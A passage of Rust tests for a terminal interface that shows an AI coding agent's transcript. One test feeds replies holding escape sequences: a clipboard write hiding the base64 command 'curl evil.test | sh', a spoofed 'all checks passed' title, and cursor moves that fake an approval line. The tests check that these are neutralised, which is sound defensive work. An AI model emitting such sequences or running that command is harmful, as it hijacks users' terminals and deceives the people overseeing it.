                Block::Text {
                    text: "Reading both.".into(),
                },
                call("a", r#"{"path":"a.txt"}"#),
                call("b", r#"{"path":"b.txt"}"#),
            ],
        },
        Message {
            role: Role::User,
            content: vec![
                result("a", "1  hello", false),
                result("b", "interrupted: no result was recorded", true),
                Block::Text {
                    text: "continue".into(),
                },
            ],
        },
    ];
    let summaries = [("a".to_string(), "read 1 line of a.txt".to_string())].into();
    let tools = crate::tools::Registry::core();
    let calls = [
        (
            "a".to_string(),
            tools.describe("read", r#"{"path":"a.txt"}"#),
        ),
        (
            "b".to_string(),
            tools.describe("read", r#"{"path":"b.txt"}"#),
        ),
    ]
    .into();
    transcript.on_event(
        &Event::ConversationRestored {
            session_id: "100-1".into(),
            messages,
            summaries,
            calls,
        },
        start,
    );
    let rows: Vec<String> = all_rows(&buffer(&mut transcript, 60, 20, start))
        .into_iter()
        .filter(|row| !row.trim().is_empty())
        .collect();
    assert_eq!(
        rows,
        [
            "› read the notes",
            "▸ thinking (1 line)",
            "Reading both.",
            r#"• read a.txt"#,
            "  ✓ read 1 line of a.txt",
            r#"• read b.txt"#,
            "  ✗ interrupted: no result was recorded",
            "› continue",
            "· resumed session 100-1 (3 earlier messages)",
        ]
    );
    assert_eq!(transcript.next_deadline(start), None, "nothing animates");
}

/// The rows of a render that moved up report how far, so the painter can have the
/// terminal scroll them: rows the last render showed at `y + moved` are now at `y`.
#[test]
fn a_render_reports_how_far_its_rows_moved_up() {
    let now = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    for n in 0..6 {
        transcript.on_event(&user(&format!("message {n}")), now);
    }
    let area = Rect::new(0, 0, 30, 6);
    let mut before = Buffer::empty(area);
    assert_eq!(
        transcript.render(area, &mut before, now),
        0,
        "a first render"
    );
    transcript.on_event(&user("message 6"), now);
    let mut after = Buffer::empty(area);
    let moved = transcript.render(area, &mut after, now);
    assert!(moved > 0 && moved < area.height, "moved {moved}");
    for y in 0..area.height - moved {
        assert_eq!(row_text(&after, y), row_text(&before, y + moved), "row {y}");
    }
    assert!(find_row(&after, "message 6").is_some());

    let mut same = Buffer::empty(area);
    assert_eq!(transcript.render(area, &mut same, now), 0, "nothing new");
    let wider = Rect::new(0, 0, 40, 6);
    let mut resized = Buffer::empty(wider);
    transcript.on_event(&user("message 7"), now);
    assert_eq!(
        transcript.render(wider, &mut resized, now),
        0,
        "another area: nothing to compare with"
    );
    assert!(transcript.handle(Action::ScrollUp));
    let mut back = Buffer::empty(wider);
    assert_eq!(transcript.render(wider, &mut back, now), 0, "moved down");
}

/// A reply that tries to write the clipboard (OSC 52), set the title, link text and
/// move the cursor up to erase the line above, its sequences cut across deltas (the
/// stream is fed seven characters at a time), and a tool's output and result doing the
/// same: each sequence shows as one `␛`, its payload gone.
#[test]
fn snapshot_escape_sequences_from_the_model_show_as_placeholders() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("Summarise the README."), start);
    let reply = "The README says to run the installer.\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\n\
                 \x1b]0;duet: all checks passed\x07See \x1b]8;;https://evil.test\x1b\\the docs\x1b]8;;\x1b\\.\n\
                 \x1b[1A\x1b[2K? approve: yes\n";
    let now = stream(&mut transcript, reply, start);
    transcript.on_event(&ready("c1", "shell", r#"{"command":"cat README.md"}"#), now);
    transcript.on_event(&run("c1"), now);
    transcript.on_event(&output("c1", "# Project\x1b"), now);
    transcript.on_event(&output("c1", "]52;c;eA==\x07 ok\n"), now);
    transcript.on_event(
        &Event::ToolRunEnd {
            call_id: "c1".into(),
            is_error: true,
            summary: "exit 1".into(),
            output: "failed\u{9b}1A\u{9b}2K: see \x1b]0;t\x07above".into(),
            checks: None,
        },
        now,
    );
    let shown = screen(&mut transcript, 80, 16, now);
    for payload in [
        "52;c;",
        "Y3Vyb",
        "evil.test",
        "all checks passed",
        "[1A",
        "[2K",
    ] {
        assert!(!shown.contains(payload), "{payload:?} shown:\n{shown}");
    }
    insta::assert_snapshot!(shown);
}

#[test]
fn a_sequence_cut_between_thinking_deltas_is_caught_whole() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    for text in ["plan \x1b", "]0;owned\x07 next\nstep \x1b[", "1A"] {
        let delta = Event::ThinkingDelta { text: text.into() };
        transcript.on_event(&delta, start);
    }
    let streaming = screen(&mut transcript, 60, 6, start);
    assert!(streaming.contains("plan ␛ next"), "{streaming}");
    assert!(!streaming.contains("owned"), "{streaming}");
    // The cut-off sequence at the end shows once the thinking ends.
    transcript.on_event(&text("Done."), start);
    transcript.handle(Action::ToggleThinking);
    let ended = screen(&mut transcript, 60, 6, start);
    assert!(ended.contains("step ␛"), "{ended}");
    assert!(!ended.contains("1A"), "{ended}");
}

fn waiting(id: &str, program: &str, line: &str) -> Event {
    Event::CommandWaitingForInput {
        call_id: id.into(),
        program: program.into(),
        line: line.into(),
    }
}

/// A shell card whose command asks a question and waits for the answer.
fn card_waiting_for_input(start: Instant) -> Transcript {
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.set_input_hints(InputHints {
        focus: "Ctrl-Y type into command".into(),
        release: "Esc stop typing".into(),
    });
    let command = r#"{"command":"rm -ri build"}"#;
    transcript.on_event(&begin("s", "shell"), start);
    transcript.on_event(&ready("s", "shell", command), start);
    transcript.on_event(&run("s"), start);
    transcript.on_event(&output("s", "scanning build\n"), at(start, 200));
    transcript.on_event(
        &waiting("s", "rm", "rm: descend into directory 'build'?"),
        at(start, 800),
    );
    transcript
}

#[test]
fn snapshot_a_command_waiting_for_input_and_the_user_typing_into_it() {
    let start = Instant::now();
    let mut transcript = card_waiting_for_input(start);
    assert_eq!(transcript.waiting_command().as_deref(), Some("s"));
    let asked = screen(&mut transcript, 80, 8, at(start, 1_000));
    transcript.set_typing_into(Some("s"));
    transcript.on_event(
        &waiting("s", "rm", "rm: descend into directory 'build'? y"),
        at(start, 1_500),
    );
    let typing = screen(&mut transcript, 80, 8, at(start, 1_600));
    insta::assert_snapshot!(format!("{asked}\n{typing}"));
}

#[test]
fn output_after_the_prompt_ends_the_wait_and_the_end_ends_the_card() {
    let start = Instant::now();
    let mut transcript = card_waiting_for_input(start);
    transcript.on_event(&output("s", "removed build\n"), at(start, 1_000));
    assert_eq!(transcript.waiting_command(), None);
    assert!(
        !card_rows(&mut transcript, at(start, 1_000))
            .iter()
            .any(|row| row.contains("waits for input")),
        "the wait is over"
    );
    transcript.on_event(&waiting("s", "rm", "remove build/x?"), at(start, 1_200));
    assert!(transcript.is_running("s"));
    transcript.on_event(&end("s", false, "exit 0", ""), at(start, 1_500));
    assert_eq!(transcript.waiting_command(), None);
    assert!(!transcript.is_running("s"));
    // A late report of the wait does not bring it back.
    transcript.on_event(&waiting("s", "rm", "remove build/x?"), at(start, 1_600));
    assert_eq!(transcript.waiting_command(), None);
}

#[test]
fn images_a_message_went_with_show_as_chips_under_it() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("what is wrong here?"), start);
    transcript.on_event(
        &Event::ImagesAttached {
            id: 1,
            attached: vec!["shot.png".into(), "error\u{1b}]0;t\u{7}.jpg".into()],
            refused: vec!["big.png: larger than 5 MiB".into()],
        },
        start,
    );
    let rows = card_rows(&mut transcript, start);
    assert_eq!(
        rows,
        [
            "› what is wrong here?",
            "  [image: shot.png] [image: error␛.jpg]",
            "! image not sent: big.png: larger than 5 MiB",
        ]
    );
}
